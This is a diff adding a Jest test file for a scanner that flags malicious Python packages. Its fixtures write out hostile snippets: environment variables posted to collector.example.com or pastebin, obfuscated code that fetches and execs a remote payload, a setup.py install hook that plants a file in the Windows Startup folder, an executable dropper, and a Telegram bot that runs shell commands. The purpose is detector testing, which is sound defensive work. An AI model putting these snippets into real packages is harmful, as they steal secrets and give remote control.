@@ -1,0 +1,209 @@
+import { describe, expect, it } from '@jest/globals';
+import { pyDownloadExecute } from '../../../src/analysis/rules/py-download-execute.js';
+import { pyExecDecoded } from '../../../src/analysis/rules/py-exec-decoded.js';
+import { pyExfiltration } from '../../../src/analysis/rules/py-exfiltration.js';
+import { pyObfuscatedCode } from '../../../src/analysis/rules/py-obfuscated-code.js';
+import { pyPersistence } from '../../../src/analysis/rules/py-persistence.js';
+import { pySuspiciousEndpoint } from '../../../src/analysis/rules/py-suspicious-endpoint.js';
+import { gating, runOn } from '../rules/helpers.js';
+
+// Techniques where what the code does is only visible by following values a step further than
+// the call itself: through a variable, a generator, an aliased builtin, an imported constant,
+// a method of the same class.
+const setup = "from setuptools import setup\nsetup(name='demo')\n";
+
+describe('values followed through code', () => {
+  it('sees the environment copied into a variable, serialised and posted on import', async () => {
+    const findings = await runOn(pyExfiltration, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': [
+        'import os, json, base64, requests',
+        'env_dict = dict(os.environ)',
+        'blob = base64.b64encode(json.dumps(env_dict).encode()).decode()',
+        'requests.post("https://collector.example.com/c", data={"t": blob})',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('sees the environment joined into k=v lines and written to a socket', async () => {
+    const findings = await runOn(pyExfiltration, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/report.py': [
+        'import os, socket',
+        'def report():',
+        '    lines = "\\n".join(f"{k}={v}" for k, v in os.environ.items())',
+        '    sock = socket.create_connection(("collector.example.com", 443))',
+        '    sock.sendall(lines.encode())',
+      ].join('\n'),
+    });
+    expect(findings.map((f) => f.rule)).toContain('py-exfiltration');
+  });
+
+  it('does not call an environment copy handed to a child process a dump', async () => {
+    const findings = await runOn(pyExfiltration, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/run.py': [
+        'import os, subprocess, requests',
+        'def run(cmd):',
+        '    env = dict(os.environ)',
+        '    env["LANG"] = "C"',
+        '    return subprocess.run(cmd, env=env)',
+        'def version():',
+        '    return requests.get("https://pypi.org/pypi/demo/json").json()',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
+
+  it('resolves builtins spelled from character codes through aliases of globals and join', async () => {
+    const files = {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': 'from .inset import fetch\n',
+      'demo-1.0/demo/inset.py': [
+        'g = globals',
+        '_ = "".join',
+        'B = _([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])',
+        '__ = getattr(g()[B], _([chr(c) for c in [103, 101, 116, 97, 116, 116, 114]]))',
+        'def fetch():',
+        '    api = __import__("urllib.request")',
+        '    code = __(api.request, "urlopen")("https://example.com/x").read()',
+        '    __(g()["__builtins__"], "exec")(code)',
+        'fetch()',
+      ].join('\n'),
+    };
+    const obfuscation = await runOn(pyObfuscatedCode, 'pypi', files);
+    expect(gating(obfuscation)[0]?.evidence ?? '').toContain('getattr');
+    const exec = await runOn(pyExecDecoded, 'pypi', files);
+    expect(gating(exec)).toHaveLength(1);
+  });
+
+  it('treats a request to an address decoded from an imported constant as a hidden endpoint', async () => {
+    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/constants.py': 'SIGN_KEY = "aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5jb20v"\n',
+      'demo-1.0/demo/account.py': [
+        'import base64, requests',
+        'from .constants import SIGN_KEY',
+        'def parse_key(key):',
+        '    requests.get(str(base64.b64decode(SIGN_KEY), encoding="utf-8") + key)',
+        '    return key',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+    expect(findings[0].message).toContain('destination decoded at run time');
+  });
+
+  it('follows a decoder method of the same class to the host it connects to', async () => {
+    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/cipher.py': [
+        'from http.client import HTTPSConnection',
+        'from zlib import decompress',
+        'from base64 import b64decode',
+        'class Cipher:',
+        '    def decd(self, data):',
+        '        b64d = lambda x: b64decode(x)',
+        '        return decompress(b64d(data[::-1])).decode()',
+        '    def send(self, host_blob, payload):',
+        '        conn = HTTPSConnection(self.decd(host_blob), timeout=1)',
+        '        conn.request("POST", "/", payload)',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('keeps basic-auth headers built with b64encode below the gate', async () => {
+    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/client.py': [
+        'import base64, requests',
+        'def get(url, user, password):',
+        '    token = base64.b64encode(f"{user}:{password}".encode()).decode()',
+        '    return requests.get(url, headers={"Authorization": "Basic " + token})',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toEqual([]);
+  });
+
+  it('sees a start-up folder reached through a variable that makedirs, clone and rename target', async () => {
+    const findings = await runOn(pyPersistence, 'pypi', {
+      'demo-1.0/setup.py': [
+        'import os',
+        'from setuptools import setup',
+        'from setuptools.command.install import install',
+        'class Install(install):',
+        '    def run(self):',
+        '        target = rf"C:\\Users\\{os.getlogin()}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"',
+        '        os.makedirs(target + "\\\\boot")',
+        '        os.rename("boot/agent.py", os.path.join(target, "agent.py"))',
+        '        install.run(self)',
+        "setup(name='demo', cmdclass={'install': Install})",
+      ].join('\n'),
+    });
+    expect(gating(findings)[0]?.severity).toBe('critical');
+  });
+
+  it('calls a download written out as a Windows program a dropper even without a visible run', async () => {
+    const findings = await runOn(pyDownloadExecute, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/core.py': [
+        'import requests, getpass, binascii',
+        'def start():',
+        '    b = requests.get("https://example.com/payload.txt")',
+        '    path = "C:/Users/" + getpass.getuser() + "/Documents/"',
+        '    with open(path + "c1.exe", "wb") as f:',
+        '        f.write(binascii.unhexlify(b.text.encode()))',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+    expect(findings[0].evidence).toContain('c1.exe');
+  });
+
+  it('keeps a downloaded data file written to disk below the gate', async () => {
+    const findings = await runOn(pyDownloadExecute, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/core.py': [
+        'import requests',
+        'def refresh(cache):',
+        '    b = requests.get("https://example.com/data.json")',
+        '    with open(cache + "/data.json", "wb") as f:',
+        '        f.write(b.content)',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toEqual([]);
+  });
+});
+
+describe('destinations', () => {
+  it('counts a bot token of a chat service as a destination next to command execution', async () => {
+    const token = `${'8193906441'}:AA${'x'.repeat(33)}`;
+    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': [
+        'import subprocess, telebot',
+        `bot = telebot.TeleBot("${token}")`,
+        '@bot.message_handler(content_types=["text"])',
+        'def handle(message):',
+        '    out = subprocess.check_output(message.text, shell=True)',
+        '    bot.reply_to(message, out)',
+        'bot.infinity_polling()',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+    expect(findings[0].message).toContain('Telegram bot token');
+  });
+
+  it('counts the upload API of a paste site as a destination', async () => {
+    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/leak.py': [
+        'import os, urllib.request, urllib.parse',
+        'def leak():',
+        '    data = urllib.parse.urlencode({"api_paste_code": os.environ.get("API_KEY")})',
+        '    urllib.request.urlopen("https://pastebin.com/api/api_post.php", data=data)',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+});
